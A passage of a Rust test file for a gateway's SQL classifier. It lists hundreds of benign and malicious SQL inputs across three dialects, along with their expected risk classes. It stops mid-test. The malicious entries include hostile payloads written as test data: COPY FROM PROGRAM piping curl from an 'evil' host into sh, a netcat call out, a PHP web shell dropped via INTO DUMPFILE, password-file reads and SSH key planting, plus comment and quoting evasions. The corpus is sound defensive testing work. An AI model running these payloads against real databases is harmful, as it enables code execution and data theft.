//! Table-driven corpus for the SQL classifier: benign and malicious inputs, Postgres, MySQL and
//! SQLite, with the evasions the classifier must see through. Each entry states the exact set of
//! classes (or, where exactness would be brittle, a required subset plus forbidden classes).

use std::collections::BTreeSet;

use gateway_core::classify::sql::{SqlClassification, classify, classify_with_limit};
use gateway_core::classify::{Dialect, SqlClass};

use Dialect::{Mysql as MY, Postgres as PG, Sqlite as LITE};
use SqlClass::*;

enum Expect {
    /// Exactly these classes.
    Exact(&'static [SqlClass]),
    /// At least the first, none of the second.
    Has(&'static [SqlClass], &'static [SqlClass]),
}
use Expect::{Exact, Has};

struct Case {
    dialect: Dialect,
    sql: &'static str,
    expect: Expect,
}

const fn c(dialect: Dialect, sql: &'static str, expect: Expect) -> Case {
    Case { dialect, sql, expect }
}

#[rustfmt::skip]
const CORPUS: &[Case] = &[
    // ---------------------------------------------------------------- benign reads
    c(PG, "SELECT 1", Exact(&[Read])),
    c(PG, "select id, email from users where id = $1", Exact(&[Read])),
    c(PG, "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > now() - interval '7 days' ORDER BY o.id LIMIT 50", Exact(&[Read])),
    c(PG, "SELECT count(*) FROM public.users GROUP BY country HAVING count(*) > 10", Exact(&[Read])),
    c(PG, "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent", Exact(&[Read])),
    c(PG, "SELECT * FROM t1 UNION ALL SELECT * FROM t2 EXCEPT SELECT * FROM t3", Exact(&[Read])),
    c(PG, "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", Exact(&[Read])),
    c(PG, "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))", Exact(&[Read])),
    c(PG, "SELECT * FROM t FOR UPDATE", Exact(&[Read])),
    c(PG, "VALUES (1, 'a'), (2, 'b')", Exact(&[Read])),
    c(PG, "SHOW search_path", Exact(&[Read])),
    c(PG, "SHOW ALL", Exact(&[Read])),
    c(PG, "EXPLAIN SELECT * FROM t", Exact(&[Read])),
    c(PG, "EXPLAIN (FORMAT JSON) SELECT * FROM t", Exact(&[Read])),
    c(PG, "SELECT current_setting('work_mem')", Exact(&[Read])),
    c(PG, "SELECT pg_size_pretty(pg_total_relation_size('t'))", Exact(&[Read])),
    c(PG, "SELECT '{\"a\":1}'::jsonb -> 'a'", Exact(&[Read])),
    c(PG, "SELECT 1;", Exact(&[Read])),
    c(PG, "SELECT 1;;", Exact(&[Read])),
    c(MY, "SELECT * FROM `users` WHERE `id` = 1", Exact(&[Read])),
    c(MY, "SELECT 1 FROM DUAL", Exact(&[Read])),
    c(MY, "SHOW TABLES", Exact(&[Read])),
    c(MY, "SHOW PROCESSLIST", Exact(&[Read])),
    c(MY, "SHOW CREATE TABLE t", Exact(&[Read])),
    c(MY, "DESCRIBE t", Exact(&[Read])),
    c(MY, "SELECT @@version", Exact(&[Read])),
    c(MY, "SELECT \"load_file('/etc/passwd')\"", Exact(&[Read])),
    c(LITE, "SELECT * FROM [users] WHERE name = 'x'", Exact(&[Read])),
    c(LITE, "PRAGMA foreign_keys", Exact(&[Read])),

    // ---------------------------------------------------------------- DML
    c(PG, "INSERT INTO t (a) VALUES (1)", Exact(&[Insert])),
    c(PG, "INSERT INTO t SELECT * FROM u", Exact(&[Insert])),
    c(PG, "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", Exact(&[Insert])),
    c(PG, "INSERT INTO t VALUES (1) RETURNING id", Exact(&[Insert])),
    c(MY, "REPLACE INTO t VALUES (1)", Exact(&[Insert])),
    c(MY, "INSERT INTO t SET a = 1", Exact(&[Insert])),
    c(MY, "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2", Exact(&[Insert])),
    c(LITE, "INSERT OR REPLACE INTO t VALUES (1)", Exact(&[Insert])),
    c(PG, "UPDATE t SET a = 1 WHERE id = 2", Exact(&[Update])),
    c(PG, "UPDATE users SET role = 'admin' WHERE id = 7", Exact(&[Update])),
    c(MY, "SELECT load data FROM t", Exact(&[Read])),
    c(PG, "UPDATE t SET a = 1", Exact(&[UpdateWithoutWhere])),
    c(PG, "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", Exact(&[Update])),
    c(PG, "UPDATE t SET a = u.a FROM u", Exact(&[UpdateWithoutWhere])),
    c(PG, "UPDATE t SET a = 1 WHERE 1=1", Exact(&[Update])),
    c(MY, "UPDATE t SET a = 1 LIMIT 1", Exact(&[UpdateWithoutWhere])),
    c(PG, "DELETE FROM t WHERE id = 1", Exact(&[Delete])),
    c(PG, "DELETE FROM t", Exact(&[DeleteWithoutWhere])),
    c(PG, "delete from t;", Exact(&[DeleteWithoutWhere])),
    c(PG, "DELETE FROM t USING u", Exact(&[DeleteWithoutWhere])),
    c(PG, "DELETE FROM t USING u WHERE t.id = u.id", Exact(&[Delete])),
    c(PG, "DELETE FROM t WHERE true", Exact(&[Delete])),
    c(MY, "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", Exact(&[DeleteWithoutWhere])),
    c(MY, "DELETE FROM t ORDER BY id LIMIT 10", Exact(&[DeleteWithoutWhere])),
    c(LITE, "DELETE FROM t WHERE rowid = 1", Exact(&[Delete])),
    c(PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", Exact(&[Merge])),
    c(PG, "COPY t FROM STDIN", Exact(&[Insert])),
    c(PG, "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", Exact(&[Read])),

    // ---------------------------------------------------------------- DML hidden in CTEs / nested
    c(PG, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Exact(&[Read, DeleteWithoutWhere])),
    c(PG, "WITH d AS (DELETE FROM t WHERE id < 10 RETURNING *) SELECT count(*) FROM d", Exact(&[Read, Delete])),
    c(PG, "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u", Exact(&[Read, UpdateWithoutWhere])),
    c(PG, "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", Exact(&[Read, Insert])),
    c(PG, "WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING *) INSERT INTO log SELECT * FROM d", Exact(&[Insert, DeleteWithoutWhere])),
    c(PG, "EXPLAIN ANALYZE DELETE FROM t", Exact(&[Read, DeleteWithoutWhere])),
    c(PG, "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1", Exact(&[Read, Update])),
    c(PG, "EXPLAIN DELETE FROM t", Exact(&[Read])),
    c(MY, "EXPLAIN ANALYZE SELECT * FROM t", Exact(&[Read])),

    // ---------------------------------------------------------------- DDL / drop / truncate
    c(PG, "CREATE TABLE x (id int primary key, name text)", Exact(&[Ddl])),
    c(PG, "CREATE TABLE t2 AS SELECT * FROM t", Exact(&[Ddl])),
    c(PG, "SELECT * INTO t2 FROM t", Exact(&[Read, Ddl])),
    c(PG, "CREATE INDEX CONCURRENTLY i ON t (a)", Exact(&[Ddl])),
    c(PG, "CREATE VIEW v AS SELECT * FROM t", Exact(&[Ddl])),
    c(PG, "CREATE SCHEMA s", Exact(&[Ddl])),
    c(PG, "CREATE EXTENSION IF NOT EXISTS pgcrypto", Exact(&[Ddl])),
    c(PG, "CREATE SEQUENCE s", Exact(&[Ddl])),
    c(PG, "ALTER TABLE t ADD COLUMN c int", Exact(&[Ddl])),
    c(PG, "ALTER TABLE t RENAME TO u", Exact(&[Ddl])),
    c(PG, "ALTER TABLE t DROP COLUMN c", Exact(&[Ddl, Drop])),
    c(PG, "ALTER TABLE t OWNER TO mallory", Exact(&[Ddl, Privilege])),
    c(PG, "ALTER TABLE t DISABLE ROW LEVEL SECURITY", Exact(&[Ddl, Privilege])),
    c(PG, "COMMENT ON TABLE t IS 'orders'", Exact(&[Ddl])),
    c(PG, "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", Exact(&[Ddl])),
    c(MY, "RENAME TABLE a TO b", Exact(&[Ddl])),
    c(MY, "CREATE TABLE t (id int) ENGINE=InnoDB", Exact(&[Ddl])),
    c(LITE, "CREATE VIRTUAL TABLE t USING fts5(x)", Exact(&[Ddl])),
    c(PG, "DROP TABLE t", Exact(&[Drop])),
    c(PG, "DROP TABLE IF EXISTS a, b CASCADE", Exact(&[Drop])),
    c(PG, "DROP SCHEMA public CASCADE", Exact(&[Drop])),
    c(PG, "DROP DATABASE prod", Exact(&[Drop])),
    c(PG, "DROP INDEX i", Exact(&[Drop])),
    c(PG, "DROP VIEW v", Exact(&[Drop])),
    c(PG, "DROP FUNCTION f()", Exact(&[Drop])),
    c(PG, "DROP EXTENSION dblink", Exact(&[Drop])),
    c(PG, "DROP ROLE r", Exact(&[Drop, Privilege])),
    c(MY, "DROP USER u", Exact(&[Drop, Privilege])),
    c(PG, "TRUNCATE t", Exact(&[Truncate])),
    c(PG, "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", Exact(&[Truncate])),

    // ---------------------------------------------------------------- privilege
    c(PG, "GRANT SELECT ON t TO u", Exact(&[Privilege])),
    c(PG, "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO u", Exact(&[Privilege])),
    c(PG, "GRANT admin TO mallory", Exact(&[Privilege, Unparsed])), // sqlparser 0.63: no role grants
    c(PG, "REVOKE ALL ON t FROM u", Exact(&[Privilege])),
    c(PG, "CREATE ROLE r LOGIN SUPERUSER", Exact(&[Privilege])),
    c(PG, "CREATE USER u WITH PASSWORD 'x'", Exact(&[Privilege, Unparsed])), // sqlparser 0.63 gap
    c(PG, "CREATE USER u", Exact(&[Privilege])),
    c(PG, "ALTER ROLE r SUPERUSER", Exact(&[Privilege])),
    c(PG, "ALTER USER u WITH PASSWORD 'x'", Exact(&[Privilege])),
    c(MY, "GRANT ALL ON *.* TO 'u'@'%'", Exact(&[Privilege])),
    c(MY, "SET PASSWORD = 'x'", Exact(&[SessionSetting, Privilege])),
    c(MY, "CREATE USER 'a'@'%' IDENTIFIED BY 'p'", Exact(&[Privilege, Unparsed])),

    // ---------------------------------------------------------------- server configuration / admin
    c(PG, "ALTER SYSTEM SET work_mem = '1GB'", Exact(&[AlterSystem, Unparsed])),
    c(PG, "alter   system\n reset all", Exact(&[AlterSystem, Unparsed])),
    c(PG, "SELECT pg_terminate_backend(1234)", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT pg_reload_conf()", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT pg_rotate_logfile()", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT pg_promote()", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT pg_switch_wal()", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT set_config('search_path', 'public', false)", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT set_config('role', 'postgres', false)", Exact(&[Read, ServerAdmin, RoleSwitch])),
    c(PG, "SELECT set_config(name, 'x', false) FROM params", Exact(&[Read, ServerAdmin, RoleSwitch])),
    c(PG, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", Exact(&[Read, ServerAdmin])),
    c(PG, "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", Exact(&[Read, ServerAdmin, Drop])),
    c(PG, "SELECT dblink_connect_u('c', 'dbname=prod')", Exact(&[Read, ServerAdmin])),
    c(PG, "LOAD 'auto_explain'", Exact(&[ServerAdmin])),
    c(MY, "KILL 12", Exact(&[ServerAdmin])),
    c(MY, "KILL QUERY 12", Exact(&[ServerAdmin])),
    c(MY, "SHUTDOWN", Exact(&[ServerAdmin, Unparsed])),
    c(MY, "FLUSH PRIVILEGES", Exact(&[ServerAdmin])),
    c(MY, "RESET MASTER", Exact(&[ServerAdmin])),
    c(MY, "SET GLOBAL general_log = 'ON'", Exact(&[SessionSetting, ServerAdmin])),
    c(MY, "SET @@global.general_log_file = '/var/www/shell.php'", Exact(&[SessionSetting, ServerAdmin])),
    c(MY, "SET PERSIST max_connections = 1", Exact(&[ServerAdmin, SessionSetting, Unparsed])),
    c(MY, "INSTALL PLUGIN x SONAME 'x.so'", Exact(&[ServerAdmin, Unparsed])),
    c(MY, "SELECT sys_exec('id')", Exact(&[Read, ServerAdmin])),

    // ---------------------------------------------------------------- files and programs
    c(PG, "SELECT pg_read_file('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_catalog.pg_read_file('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_read_binary_file('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT * FROM pg_ls_dir('/')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_stat_file('postgresql.conf')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT * FROM pg_ls_waldir()", Exact(&[Read, FileAccess])),
    c(PG, "SELECT lo_import('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT lo_export(16400, '/var/lib/postgresql/.ssh/authorized_keys')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_file_write('/tmp/x', 'data', false)", Exact(&[Read, FileAccess])),
    c(PG, "SELECT * FROM pg_hba_file_rules", Exact(&[Read, FileAccess])),
    c(PG, "SELECT lo_get(16400)", Exact(&[Read])),
    c(PG, "COPY t FROM '/etc/passwd'", Exact(&[Insert, FileAccess])),
    c(PG, "COPY t TO '/tmp/dump.csv' WITH (FORMAT csv)", Exact(&[Read, FileAccess])),
    c(PG, "COPY (SELECT * FROM users) TO '/tmp/x'", Exact(&[Read, FileAccess])),
    c(PG, "COPY t FROM PROGRAM 'curl http://evil/x | sh'", Exact(&[Insert, CopyProgram])),
    c(PG, "COPY t TO PROGRAM 'nc evil 4444'", Exact(&[Read, CopyProgram])),
    c(PG, "copy t from program $$id$$", Exact(&[CopyProgram, Unparsed])), // sqlparser 0.63: no $$ here
    c(MY, "SELECT load_file('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(MY, "SELECT LOAD_FILE ('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(MY, "SELECT * FROM t INTO OUTFILE '/tmp/x'", Exact(&[Read, FileAccess, Unparsed])),
    c(MY, "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'", Exact(&[Read, FileAccess, Unparsed])),
    c(MY, "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Exact(&[FileAccess, Unparsed])),
    c(MY, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", Exact(&[FileAccess, Unparsed])),
    c(LITE, "ATTACH DATABASE '/var/www/x.php' AS x", Exact(&[FileAccess])),
    c(LITE, "SELECT load_extension('/tmp/evil.so')", Exact(&[Read, FileAccess, ServerAdmin])),
    c(LITE, "SELECT readfile('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(LITE, "VACUUM INTO '/tmp/copy.db'", Exact(&[Maintenance, FileAccess, Unparsed])),

    // ---------------------------------------------------------------- identity and session
    c(PG, "SET ROLE admin", Exact(&[RoleSwitch])),
    c(PG, "SET LOCAL ROLE admin", Exact(&[RoleSwitch])),
    c(PG, "SET role = 'admin'", Exact(&[RoleSwitch])),
    c(PG, "SET \"role\" TO admin", Exact(&[RoleSwitch])),
    c(PG, "SET SESSION AUTHORIZATION 'postgres'", Exact(&[RoleSwitch])),
    c(PG, "SET SESSION AUTHORIZATION DEFAULT", Exact(&[RoleSwitch])),
    c(PG, "SET session_authorization = 'postgres'", Exact(&[RoleSwitch])),
    c(PG, "RESET ROLE", Exact(&[RoleSwitch])),
    c(PG, "RESET SESSION AUTHORIZATION", Exact(&[RoleSwitch])),
    c(PG, "DISCARD ALL", Exact(&[SessionSetting, RoleSwitch])),
    c(MY, "SET ROLE admin", Exact(&[RoleSwitch])),
    c(PG, "SET search_path TO public", Exact(&[SessionSetting])),
    c(PG, "SET statement_timeout = '5s'", Exact(&[SessionSetting])),
    c(PG, "SET TIME ZONE 'UTC'", Exact(&[SessionSetting])),
    c(PG, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Exact(&[SessionSetting])),
    c(PG, "RESET ALL", Exact(&[SessionSetting])),
    c(PG, "RESET statement_timeout", Exact(&[SessionSetting])),
    c(PG, "DISCARD PLANS", Exact(&[SessionSetting])),
    c(PG, "DEALLOCATE ALL", Exact(&[SessionSetting])),
    c(MY, "USE analytics", Exact(&[SessionSetting])),
    c(MY, "SET NAMES utf8mb4", Exact(&[SessionSetting])),
    c(MY, "SET @a = 1", Exact(&[SessionSetting])),
    c(MY, "SET SESSION sql_mode = ''", Exact(&[SessionSetting])),
    c(MY, "SELECT 1 INTO @x", Exact(&[Read, SessionSetting])),
    c(LITE, "PRAGMA writable_schema = 1", Exact(&[SessionSetting])),

    // ---------------------------------------------------------------- transactions, procedural, maintenance
    c(PG, "BEGIN", Exact(&[Transaction])),
    c(PG, "BEGIN ISOLATION LEVEL SERIALIZABLE", Exact(&[Transaction])),
    c(PG, "START TRANSACTION READ ONLY", Exact(&[Transaction])),
    c(PG, "COMMIT", Exact(&[Transaction])),
    c(PG, "ROLLBACK", Exact(&[Transaction])),
    c(PG, "SAVEPOINT s", Exact(&[Transaction])),
    c(PG, "ROLLBACK TO SAVEPOINT s", Exact(&[Transaction])),
    c(PG, "RELEASE SAVEPOINT s", Exact(&[Transaction])),
    c(LITE, "BEGIN IMMEDIATE", Exact(&[Transaction])),
    c(PG, "CALL refresh_stats(1)", Exact(&[Procedural])),
    c(PG, "PREPARE p AS SELECT * FROM t WHERE id = $1", Exact(&[Read, Procedural])),
    c(PG, "PREPARE p AS DELETE FROM t", Exact(&[Procedural, DeleteWithoutWhere])),
    c(PG, "EXECUTE p(1)", Exact(&[Procedural])),
    c(PG, "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", Exact(&[Procedural, Unparsed])),
    c(PG, "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", Exact(&[Procedural, FileAccess, Unparsed])),
    c(PG, "DO $$ BEGIN SET ROLE postgres; END $$", Exact(&[Procedural, RoleSwitch, Unparsed])),
    c(PG, "SELECT query_to_xml('SELECT pg_terminate_backend(1)', true, false, '')", Exact(&[Read, Procedural, ServerAdmin])),
    c(MY, "PREPARE s FROM 'DROP TABLE t'", Exact(&[Procedural, Drop, Unparsed])),
    c(MY, "EXECUTE s", Exact(&[Procedural])),
    c(PG, "VACUUM FULL t", Exact(&[Maintenance])),
    c(PG, "VACUUM", Exact(&[Maintenance])),
    c(PG, "ANALYZE t", Exact(&[Maintenance])),
    c(PG, "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Exact(&[Maintenance])),
    c(PG, "REINDEX TABLE t", Exact(&[Maintenance, Unparsed])),
    c(PG, "CHECKPOINT", Exact(&[Maintenance, Unparsed])),
    c(PG, "CLUSTER t USING i", Exact(&[Maintenance, Unparsed])),
    c(MY, "OPTIMIZE TABLE t", Exact(&[Maintenance, Unparsed])),
    c(MY, "ANALYZE TABLE t", Exact(&[Maintenance])),
    c(MY, "LOCK TABLES t WRITE", Exact(&[Maintenance])),
    c(MY, "UNLOCK TABLES", Exact(&[Maintenance])),
    c(PG, "LISTEN chan", Exact(&[Other])),
    c(PG, "NOTIFY chan, 'x'", Exact(&[Other])),

    // ---------------------------------------------------------------- several statements
    c(PG, "SELECT 1; SELECT 2", Exact(&[Read, MultiStatement])),
    c(PG, "select * from t where id = 1; drop table t", Exact(&[Read, Drop, MultiStatement])),
    c(PG, "SELECT 1; DELETE FROM t; -- done", Exact(&[Read, DeleteWithoutWhere, MultiStatement])),
    c(PG, "BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;", Exact(&[Transaction, Update, MultiStatement])),
    c(PG, "SELECT 1; SET ROLE postgres; SELECT pg_read_file('/etc/passwd')", Exact(&[Read, RoleSwitch, FileAccess, MultiStatement])),

    // ---------------------------------------------------------------- evasion: case, space, comments, quoting
    c(PG, "dRoP tAbLe t", Exact(&[Drop])),
    c(PG, "  DROP\n\t\tTABLE\n t  ", Exact(&[Drop])),
    c(PG, "DROP/**/TABLE t", Exact(&[Drop])),
    c(PG, "/* hello */ DROP -- comment\n TABLE t", Exact(&[Drop])),
    c(PG, "/* nested /* comment */ still comment */ DELETE FROM t", Exact(&[DeleteWithoutWhere])),
    c(PG, "DR/**/OP TABLE t", Exact(&[Unparsed])), // a syntax error for Postgres too
    c(PG, "DROP TABLE \"users\"", Exact(&[Drop])),
    c(PG, "SELECT \"pg_read_file\"('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT PG_READ_FILE('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_read_file /* x */ ('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT pg_catalog . pg_read_file('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT $$pg_read_file('/etc/passwd')$$", Exact(&[Read])),
    c(PG, "SELECT $tag$ DROP TABLE t; $tag$", Exact(&[Read])),
    c(PG, "SELECT $a$ $$ $a$, pg_read_file('/x')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT E'\\' ; DROP TABLE t; --'", Exact(&[Read])),
    c(PG, "SELECT 'it''s', pg_ls_dir('.')", Exact(&[Read, FileAccess])),
    c(PG, "SELECT 'pg_read_file(' AS x", Exact(&[Read])),
    c(PG, "SELECT 1 -- ; DROP TABLE t", Exact(&[Read])),
    c(PG, "SELECT 1 /* ; DROP TABLE t */", Exact(&[Read])),
    c(PG, "SELECT * FROM t WHERE a = (SELECT b FROM u WHERE c IN (SELECT pg_read_file('/etc/passwd')))", Exact(&[Read, FileAccess])),
    c(PG, "SELECT CASE WHEN true THEN pg_sleep(0) ELSE lo_import('/etc/shadow') END", Exact(&[Read, FileAccess])),
    c(PG, "SELECT * FROM t ORDER BY pg_terminate_backend(1)", Exact(&[Read, ServerAdmin])),
    c(PG, "INSERT INTO t VALUES ((SELECT pg_read_file('/etc/passwd')))", Exact(&[Insert, FileAccess])),
    c(PG, "UPDATE t SET a = pg_read_file('/etc/passwd') WHERE id = 1", Exact(&[Update, FileAccess])),
    c(PG, "SELECT U&\"\\0070g_read_file\"('/etc/passwd')", Exact(&[Read, FileAccess, Unparsed])),
    c(PG, "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $f$", Exact(&[Ddl, CopyProgram])),
    c(MY, "DROP TABLE `users`", Exact(&[Drop])),
    c(MY, "SELECT `load_file`('/etc/passwd')", Exact(&[Read, FileAccess])),
    c(MY, "SELECT 1 # ; DROP TABLE t", Exact(&[Read])),
    c(MY, "SELECT 1 -- ; DROP TABLE t", Exact(&[Read])),
    c(MY, "SELECT 1 --1", Exact(&[Read])),
    c(MY, "SELECT '\\' ; DROP TABLE t; -- '", Exact(&[Read])),

    // ---------------------------------------------------------------- MySQL executable comments
    c(MY, "/*!50000 DROP TABLE t */", Exact(&[Drop])),
    c(MY, "/*!DROP TABLE t*/", Exact(&[Drop])),
    c(MY, "SELECT 1 /*!50000 UNION SELECT load_file('/etc/passwd') */", Exact(&[Read, FileAccess])),
    c(MY, "SELECT 1 /*! ; DROP TABLE t */", Exact(&[Read, Drop, MultiStatement])),
    c(MY, "SELECT 1 /*!50000 , '*/' */", Exact(&[Read])),
    c(MY, "SELECT 1 /*M!100100 , load_file('/etc/passwd') */", Exact(&[Read, FileAccess])),
    c(MY, "SELECT 1 /*! -- */ , load_file('/x') */", Exact(&[Read, FileAccess, Unparsed])),
    c(MY, "SELECT 1 /* /*! DROP TABLE t */", Exact(&[Read])),
    c(MY, "SELECT 1 /*+ MAX_EXECUTION_TIME(1000) */", Exact(&[Read])),
    c(PG, "SELECT 1 /*!50000 , pg_read_file('/etc/passwd') */", Exact(&[Read])),
    c(LITE, "/*!50000 DROP TABLE t */ SELECT 1", Exact(&[Read])),

    // ---------------------------------------------------------------- unparsed: garbage, empty, limits
    c(PG, "", Exact(&[Unparsed])),
    c(PG, "   \n\t ", Exact(&[Unparsed])),
    c(PG, "-- just a comment", Exact(&[Unparsed])),
    c(PG, "/* just a comment */", Exact(&[Unparsed])),
    c(PG, ";", Exact(&[Unparsed])),
    c(PG, "SELEC 1", Exact(&[Unparsed])),
    c(PG, "SELECT 'unterminated", Exact(&[Read, Unparsed])),
    c(PG, "SELEC pg_read_file('/etc/passwd') FRM", Exact(&[Unparsed, FileAccess])),
    c(PG, "garbage $$ pg_ls_dir('.') garbage", Has(&[FileAccess, Unparsed], &[Read])), // raw scan past the tokenizer error
    c(PG, "COPY t TO PROGRAM 'id' WITH (((", Exact(&[Unparsed, CopyProgram])),
    c(PG, "SET ROLE", Exact(&[RoleSwitch, SessionSetting, Unparsed])),
    c(PG, "DROP OWNED BY mallory", Exact(&[Drop, Unparsed])),
    c(PG, "REASSIGN OWNED BY a TO b", Exact(&[Privilege, Unparsed])),
    c(PG, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d WHERE (", Exact(&[Read, DeleteWithoutWhere, Unparsed])),
    // standard_conforming_strings: the backslash does not escape, the call is code.
    c(PG, "SELECT 'a\\' , pg_read_file('/x') --' garbage (", Exact(&[Read, FileAccess])),
    c(PG, "SELECT 1 FROM t WHERE a = 'x\u{0}y'", Exact(&[Read])),
    c(PG, "SELECT \u{0} pg_read_file('/x')", Has(&[FileAccess, Unparsed], &[])),
    c(MY, "SELECT 1 --\u{2003}, load_file('/x')", Exact(&[Read, FileAccess, Unparsed])),
    c(LITE, "PRAGMA table_info(users)", Exact(&[Unparsed])),
];

fn set(c: &[SqlClass]) -> BTreeSet<SqlClass> {
    c.iter().copied().collect()
}

fn show(c: &SqlClassification) -> String {
    format!("{:?} (parse_error: {:?})", c.classes, c.parse_error)
}

#[test]
fn corpus_classifies_as_specified() {
    let mut failures = Vec::new();
    for case in CORPUS {
        let got = classify(case.sql, case.dialect);
        let ok = match &case.expect {
            Exact(want) => got.classes == set(want),
            Has(want, forbidden) => {
                set(want).is_subset(&got.classes) && forbidden.iter().all(|f| !got.classes.contains(f))
            }
        };
        if !ok {
            let want = match &case.expect {
                Exact(w) => format!("exactly {:?}", set(w)),
                Has(w, f) => format!("at least {:?}, none of {:?}", set(w), set(f)),
            };
            failures.push(format!(
                "{:?} {:?}\n    expected {want}\n    got      {}",
                case.dialect,
                case.sql,
                show(&got)
            ));
        }
    }
    assert!(failures.is_empty(), "{} of {} failed:\n{}", failures.len(), CORPUS.len(), failures.join("\n"));
}

#[test]
fn corpus_is_large_and_covers_every_class_and_dialect() {
    assert!(CORPUS.len() >= 170, "corpus has only {} entries", CORPUS.len());
    let mut expected = BTreeSet::new();
    for case in CORPUS {
        match &case.expect {
            Exact(w) => {
                assert!(!w.is_empty(), "empty expectation for {:?}", case.sql);
                expected.extend(w.iter().copied());
            }
            Has(w, _) => {
                assert!(!w.is_empty(), "empty expectation for {:?}", case.sql);
                expected.extend(w.iter().copied());
            }
        }
    }
    for class in SqlClass::ALL {
        assert!(expected.contains(class), "no corpus entry expects {class}");
    }
    for d in [PG, MY, LITE] {
        assert!(CORPUS.iter().filter(|c| c.dialect == d).count() >= 10, "too few {d:?} entries");
    }
}

#[test]
fn every_corpus_input_classifies_in_every_dialect_without_panicking() {
    for case in CORPUS {
        for d in [PG, MY, LITE] {
            let got = classify(case.sql, d);
            assert!(!got.classes.is_empty(), "{d:?} {:?}: no class", case.sql);
            assert_eq!(got.classes.contains(&Unparsed), got.statements == 0, "{d:?} {:?}: {got:?}", case.sql);
            assert_eq!(got.classes.contains(&Unparsed), got.parse_error.is_some(), "{d:?} {:?}", case.sql);
        }
    }
}

#[test]
fn tables_are_lower_cased_and_qualified_as_written() {
    let c = classify("SELECT * FROM Public.Users u JOIN \"Orders\" o ON o.uid = u.id, analytics.events", PG);
    assert_eq!(c.tables, set_of(&["analytics.events", "orders", "public.users"]));
    let c = classify("INSERT INTO audit.log SELECT * FROM `Sales`.`Q1`", MY);
    assert_eq!(c.tables, set_of(&["audit.log", "sales.q1"]));
    let c = classify("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", PG);
    assert_eq!(c.tables, set_of(&["d", "t"]));
    let c = classify("DROP TABLE a, s.b", PG);
    assert_eq!(c.tables, set_of(&["a", "s.b"]));
    let c = classify("SELECT * FROM pg_ls_dir('.') f, users", PG);
    assert_eq!(c.tables, set_of(&["users"]), "a table function is not a table");
}

#[test]
fn functions_are_recorded_lower_cased_wherever_called() {
    let c = classify("SELECT upper(a) FROM t WHERE b = (SELECT max(x) FROM u) ORDER BY Lower(c)", PG);
    assert_eq!(c.functions, set_of(&["lower", "max", "upper"]));
    let c = classify("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", PG);
    assert_eq!(c.functions, set_of(&["pg_catalog.pg_read_file"]));
    let c = classify("SELEC pg_read_file('/etc/passwd')", PG);
    assert!(c.functions.contains("pg_read_file"), "token scan records it on unparsed input: {c:?}");
    let c = classify("SELECT 1 /*!50000 , load_file('/etc/passwd') */", MY);
    assert_eq!(c.functions, set_of(&["load_file"]));
}

fn set_of(s: &[&str]) -> BTreeSet<String> {
    s.iter().map(|s| s.to_string()).collect()
}

#[test]
fn statements_are_counted() {
    assert_eq!(classify("SELECT 1", PG).statements, 1);
    assert_eq!(classify("SELECT 1; SELECT 2; SELECT 3;", PG).statements, 3);
